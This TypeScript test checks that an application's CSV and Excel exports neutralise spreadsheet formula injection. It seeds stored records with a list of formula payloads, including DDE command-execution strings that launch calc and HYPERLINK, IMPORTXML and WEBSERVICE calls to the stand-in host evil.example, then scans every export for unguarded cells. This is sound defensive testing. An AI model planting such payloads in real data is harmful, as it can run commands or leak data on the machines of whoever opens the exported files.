import { ANALYTICS_FIGURES } from '@sojourn/contract/analytics/query'
import { ROLES } from '@sojourn/domain'
import { REPORTS } from '../../apps/server/src/areas/reporting/all-reports.ts'
import { hasFormula, readCsv } from '../../apps/server/src/areas/reporting/testing/read-files.ts'
import { aGiftDeclaration } from '../../apps/server/src/test/builders/gift-declaration.ts'
import { aUser } from '../../apps/server/src/test/builders/user.ts'
import { readWorkbook } from '../../apps/server/src/test/read-workbook.ts'
import type { TestServer } from '../../apps/server/src/test/server.ts'
import { type Records, recordsOf } from '../authorisation/records.ts'
import { spoilTexts } from './inject-texts.ts'
import type { Outcome } from './outcome.ts'

const FORMULAS = [
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(A1)',
  ],
  ...[
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|'/c calc'!A1",
    '=IMPORTXML("http://evil.example","//a")',
  ],
  ...[
    '=WEBSERVICE("http://evil.example")',
    '-2+3+cmd|x!A0',
    '=DDE("cmd";"/c calc";"x")',
    '=1";=1+1',
    '=1\n=1',
  ],
]

const RUNS = /^[=+\-@\t\r\n＝＋－＠]/
/** A program that splits CSV at semicolons or tabs finds a formula here. */
const RUNS_WHEN_SPLIT = /[;\t][ "]*[=+\-@＝＋－＠]/
/** A figure, or the dash where there is none. */
const NUMBER = /^([+-]?[\d.,]+|-)$/
/** As a formula looks once it was made into text. */
const GUARDED = /^'[=+\-@\t\r\n＝＋－＠]/

interface Export {
  name: string
  method: 'GET' | 'POST'
  path: string
  body?: unknown
}

const inBoth = (name: string, path: string): Export[] =>
  ['csv', 'xlsx'].map((format) => ({
    name: `${name} as ${format}`,
    method: 'GET',
    path: `${path}${path.includes('?') ? '&' : '?'}format=${format}`,
  }))

/** Every file with cells that the server makes. */
const exportsOf = ({ companyID, siteID, reportID }: Records): Export[] => [
  ...inBoth('audits', '/api/Audit/Export'),
  ...inBoth('companies', '/api/Company/Export'),
  ...inBoth('people of a company', `/api/User/Company/${companyID}/Export`),
  ...inBoth('sites', '/api/Site/Export'),
  ...inBoth('people of a site', `/api/User/Site/${siteID}/Export`),
  ...ROLES.flatMap((role) => inBoth(`everybody who is ${role}`, `/api/User/Role/${role}/Export`)),
  ...inBoth('groups', '/api/HotelGroup/Export'),
  ...inBoth('operators', '/api/TourOperator/Export'),
  ...inBoth('outbox', '/api/Outbox/Export'),
  ...ANALYTICS_FIGURES.map((figure) => ({
    name: `figure ${figure}`,
    method: 'GET' as const,
    path: `/api/Analytics/${figure}/Export`,
  })),
  ...REPORTS.flatMap(({ path }) =>
    ['CSV', 'EXCELOPENXML'].map((format) => ({
      name: `report ${path} as ${format}`,
      method: 'POST' as const,
      path: '/api/Reporting/Export',
      body: { format, reportPath: path },
    })),
  ),
  { name: 'environmental report', method: 'GET', path: `/api/epr/Export/ANNUAL/${reportID}` },
]

const isWorkbook = (bytes: Buffer) => bytes.subarray(0, 2).toString() === 'PK'

const cellsOf = (bytes: Buffer): string[] =>
  isWorkbook(bytes)
    ? [...readWorkbook(bytes).values()].flatMap((sheet) =>
        [...sheet.values()].map(({ value }) => String(value)),
      )
    : readCsv(bytes.subarray(0, 3).toString('hex') === 'efbbbf' ? bytes.subarray(3) : bytes).flat()

/** A formula in front of every text there is, and every file that is made of them. */
export async function attackCells(server: TestServer): Promise<Outcome> {
  const records = await recordsOf(server, ['Hotel'])
  await aGiftDeclaration(server.db, {
    audit_id: records.certifiedID,
    has_been_bribed: true,
    items: 'A pen',
    who: 'Ines',
    value: '10',
  })
  await spoilTexts(server.platform.pool, FORMULAS, 'before')
  const admin = server.withToken(await server.tokenFor(await aUser(server.db, { roles: ['Admin'] })))
  const wrong: string[] = []
  const made = exportsOf(records)
  let cells = 0
  let guarded = 0
  for (const { name, method, path, body } of made) {
    const answer = await admin.send(method, path, body)
    if (answer.status !== 200 || !Buffer.isBuffer(answer.body)) {
      wrong.push(`${name} was not made: ${answer.status}`)
      continue
    }
    const found = cellsOf(answer.body)
    cells += found.length
    guarded += found.filter((cell) => GUARDED.test(cell)).length
    for (const cell of found)
      if ((RUNS.test(cell) && !NUMBER.test(cell)) || (!isWorkbook(answer.body) && RUNS_WHEN_SPLIT.test(cell)))
        wrong.push(`${name} holds ${JSON.stringify(cell.slice(0, 60))}`)
    if (isWorkbook(answer.body) && hasFormula(answer.body)) wrong.push(`${name} computes something`)
  }
  if (guarded === 0) wrong.push('no formula came as far as a file')
  return { tried: `formulas in ${made.length} exports (${guarded} of ${cells} cells)`, wrong }
}
